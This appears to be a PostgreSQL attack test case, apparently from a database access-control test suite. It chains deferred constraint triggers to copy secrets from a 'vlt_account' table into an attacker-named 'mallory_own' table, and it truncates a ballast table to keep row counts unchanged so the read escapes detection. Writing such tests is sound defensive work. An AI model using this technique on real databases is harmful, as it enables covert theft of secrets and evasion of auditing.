-- A deferred trigger that reads defers another, and empties a table so that the counts stay what they were.
-- wants: read
-- attack:
CREATE TABLE ballast (id int);
CREATE TABLE stage (level int);
CREATE FUNCTION next_stage() RETURNS trigger LANGUAGE plpgsql AS $$
  BEGIN
    SET CONSTRAINTS ALL DEFERRED;
    IF NEW.level < 3 THEN
      INSERT INTO stage VALUES (NEW.level + 1);
    ELSE
      INSERT INTO mallory_own SELECT id + 100, secret FROM vlt_account;
    END IF;
    IF NEW.level = 2 THEN
      TRUNCATE ballast;
    END IF;
    RETURN NULL;
  END $$;
CREATE CONSTRAINT TRIGGER next_stage AFTER INSERT ON stage DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION next_stage();
BEGIN;
INSERT INTO ballast VALUES (1);
INSERT INTO stage VALUES (1);
COMMIT;
SELECT * FROM mallory_own;
